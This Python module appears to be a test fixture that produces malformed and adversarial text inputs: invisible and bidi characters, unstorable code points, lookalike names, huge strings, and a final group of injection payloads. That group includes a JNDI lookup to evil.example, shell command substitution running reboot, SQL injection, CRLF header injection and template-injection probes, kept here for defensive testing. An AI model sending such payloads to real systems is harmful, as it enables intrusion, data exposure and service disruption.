"""Words that people do not type: classes 15 to 18 of docs/bad-input.md, and signs that other programs take for orders (40)."""

from collections.abc import Iterator

BIDI = "\u200e\u200f\u061c\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
ZERO_WIDTH = "\u200b\u200c\u200d\u2060\ufeff\u00ad\u034f\u180e\u3164\u115f\uffa0"
TAGS = "".join(chr(0xE0000 + ord(sign)) for sign in "admin")
MARKS = "\u0300\u0301\u0308\u0327\u0336\u20dd\u0489"


def hidden() -> Iterator[str]:
    """15: bidi overrides, zero-width and tag characters, marks by the thousand: kept as evidence, shown as marks to staff."""
    for sign in BIDI + ZERO_WIDTH:
        yield f"门{sign}坏了"
        yield f"{sign * 40}门坏了"
    yield f"门坏了{TAGS}"
    yield from (f"门{mark * 1000}坏了" for mark in MARKS)
    yield "\u202egpj.exe 门坏了\u202c"
    yield "👨‍👩‍👧‍👦" * 50


def unstorable() -> tuple[str, ...]:
    """16: what PostgreSQL cannot keep or no text may hold. The same answer on both databases: refused, nothing written."""
    inside = ("\x00", "\ufdd0", "\ufffe", "\uffff", "\U0001ffff", "\U0010fffe")
    return (*(f"楼上{sign}楼下" for sign in inside), "\x00", "\x00" * 100)


def lookalikes() -> tuple[str, ...]:
    """17: other scripts, widths and zeros for the same name, code or phone number."""
    return (
        "ｃｈｅｎ", "сhen", "chеn", "сһеn", "ϲhen", "CHEN", "𝐜𝐡𝐞𝐧", "ⓒⓗⓔⓝ", "che\u0301n", "chen\u200b",
        "３７１０７２－０００３", "371072—00003", "三七一〇七二", "37107200003", "３７１０７２ ００〇○3",
        "１３８０００１２３４", "①③⑧", "壹", "國", "国", "裏", "里", "〇", "○", "0", "О", "Ο",
    )  # fmt: skip


def huge() -> tuple[str, ...]:
    """18: far too much of something: one sign, no spaces, lines, emoji, rare characters, private ones."""
    return (
        "长" * 5001,
        "a" * 200_000,
        "\n" * 100_000,
        "🏳️‍🌈" * 6000,
        "𠮷" * 5000,
        "\ue000" * 3000,
        "🇨" * 20_000,
        "\u0301" * 50_000,
        "https://" + "x" * 4000,
    )


def orders() -> tuple[str, ...]:
    """40: breaks, terminal sequences, mail heads and template braces. They are words like others."""
    return (
        "门坏了\r\nBcc: all@example.org",
        "门坏了\nSet-Cookie: a=b",
        "门坏了%0d%0aLocation: //evil.example",
        "\x1b[2J\x1b[31m门坏了\x1b]0;title\x07",
        "\x9b31m门坏了",
        "门坏了\x08\x08\x7f",
        "{{ 7*7 }}{% debug %}",
        "{0.__class__.__mro__}",
        "%(name)s %s %d %%(x)s %n",
        "${jndi:ldap://evil.example/a}",
        "$(reboot) `reboot` ; reboot | reboot",
        "' OR 1=1 --",
        "\\u0000 \\x00 \\N{NULL}",
        "&#0;&lt;b&gt;<b>门</b>",
    )


def words() -> tuple[str, ...]:
    """All that may be kept or refused, but never hurts."""
    return (*hidden(), *lookalikes(), *huge(), *orders())
